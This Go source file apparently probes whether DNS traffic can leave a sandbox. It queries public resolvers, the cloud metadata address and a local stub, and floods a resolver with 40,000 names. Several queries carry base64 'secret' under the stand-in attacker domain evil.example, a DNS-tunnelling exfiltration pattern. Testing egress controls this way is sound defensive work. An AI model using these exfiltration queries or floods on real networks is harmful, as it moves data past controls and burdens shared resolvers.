package main

import (
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"strings"
	"time"

	"golang.org/x/net/dns/dnsmessage"
)

// ask sends one question and returns the answer in words.
func ask(network, server, name string, kind dnsmessage.Type) (string, string, error) {
	q, err := (&dnsmessage.Message{Header: dnsmessage.Header{ID: 7, RecursionDesired: true},
		Questions: []dnsmessage.Question{{Name: dnsmessage.MustNewName(name), Type: kind,
			Class: dnsmessage.ClassINET}}}).Pack()
	if err != nil {
		return "", "", err
	}
	conn, err := net.DialTimeout(network, server, patience)
	if err != nil {
		return "", "", err
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(patience))
	return exchange(network, conn, q)
}

func exchange(network string, conn net.Conn, q []byte) (string, string, error) {
	tcp := strings.HasPrefix(network, "tcp")
	if tcp {
		q = append(binary.BigEndian.AppendUint16(nil, uint16(len(q))), q...)
	}
	if _, err := conn.Write(q); err != nil {
		return "", "", err
	}
	buf := make([]byte, 4096)
	if tcp {
		if _, err := io.ReadFull(conn, buf[:2]); err != nil {
			return "", "", err
		}
		buf = buf[:binary.BigEndian.Uint16(buf)]
		if _, err := io.ReadFull(conn, buf); err != nil {
			return "", "", err
		}
	} else {
		n, err := conn.Read(buf)
		if err != nil {
			return "", "", err
		}
		buf = buf[:n]
	}
	var m dnsmessage.Message
	if err := m.Unpack(buf); err != nil {
		return "", "", err
	}
	var at []string
	for _, r := range m.Answers {
		if a, ok := r.Body.(*dnsmessage.AResource); ok {
			at = append(at, net.IP(a.A[:]).String())
		} else {
			at = append(at, r.GoString())
		}
	}
	words := strings.TrimPrefix(m.RCode.String(), "RCode")
	if len(at) == 0 {
		return words + ", nothing", "", nil
	}
	if len(at) == 1 && (strings.HasPrefix(at[0], "198.18.") || strings.HasPrefix(at[0], "198.19.")) {
		return words + ", an address of 198.18.0.0/15", at[0], nil
	}
	return words + ", " + strings.Join(at, " "), "", nil
}

// names asks resolvers of the whole world.
func names() {
	for _, c := range []struct {
		what, network, server, name string
		kind                        dnsmessage.Type
	}{
		{"A over udp at 8.8.8.8", "udp4", "8.8.8.8:53", "c2VjcmV0.evil.example.", dnsmessage.TypeA},
		{"A over tcp at 9.9.9.9", "tcp4", "9.9.9.9:53", "c2VjcmV0.evil.example.", dnsmessage.TypeA},
		{"A at the metadata address", "udp4", "169.254.169.254:53", "evil.example.", dnsmessage.TypeA},
		{"TXT over udp at 8.8.8.8", "udp4", "8.8.8.8:53", "c2VjcmV0.evil.example.", dnsmessage.TypeTXT},
		{"TXT over tcp at 8.8.8.8", "tcp4", "8.8.8.8:53", "c2VjcmV0.evil.example.", dnsmessage.TypeTXT},
		{"AAAA at the stub", "udp4", "127.0.0.53:53", "evil.example.", dnsmessage.TypeAAAA},
		{"NULL at the stub", "udp4", "127.0.0.53:53", "c2VjcmV0.evil.example.", dnsmessage.Type(10)},
		{"ANY at the stub", "udp4", "127.0.0.53:53", "evil.example.", dnsmessage.TypeALL},
		{"AXFR over tcp", "tcp4", "8.8.8.8:53", "evil.example.", dnsmessage.TypeAXFR},
	} {
		words, detail, err := ask(c.network, c.server, c.name, c.kind)
		if err != nil {
			tell("DNS "+c.what, err)
			continue
		}
		said("DNS "+c.what, words, detail)
	}
	words, _, err := ask("udp4", "127.0.0.53:5353", "evil.example.", dnsmessage.TypeA)
	if err == nil {
		said("DNS at another port", words, "")
	} else {
		tell("DNS at another port", err)
	}
}

// flood asks for names until there is no room, and looks whether those that
// had an address keep it.
func flood() {
	const before = "kept.evil.example."
	_, first, _ := ask("udp4", "127.0.0.53:53", before, dnsmessage.TypeA)
	conn, err := net.DialTimeout("tcp4", "8.8.8.8:53", patience)
	if err != nil {
		tell("a flood of names", err)
		return
	}
	defer conn.Close()
	given := map[string]bool{}
	for i := range 40000 {
		name := fmt.Sprintf("n%d.evil.example.", i)
		q, _ := (&dnsmessage.Message{Questions: []dnsmessage.Question{{Name: dnsmessage.MustNewName(name),
			Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET}}}).Pack()
		_ = conn.SetDeadline(time.Now().Add(patience))
		words, at, err := exchange("tcp4", conn, q)
		if err != nil {
			tell("a flood of names", err, fmt.Sprint("after ", i))
			return
		}
		if words == "Refused, nothing" {
			_, again, _ := ask("udp4", "127.0.0.53:53", before, dnsmessage.TypeA)
			if first == "" || first != again || len(given) != i {
				words = "an address was given twice, or taken away"
			}
			said("a flood of names", words, fmt.Sprint("after ", i, " names"))
			return
		}
		given[at] = true
	}
	said("a flood of names", "no bound", "")
}
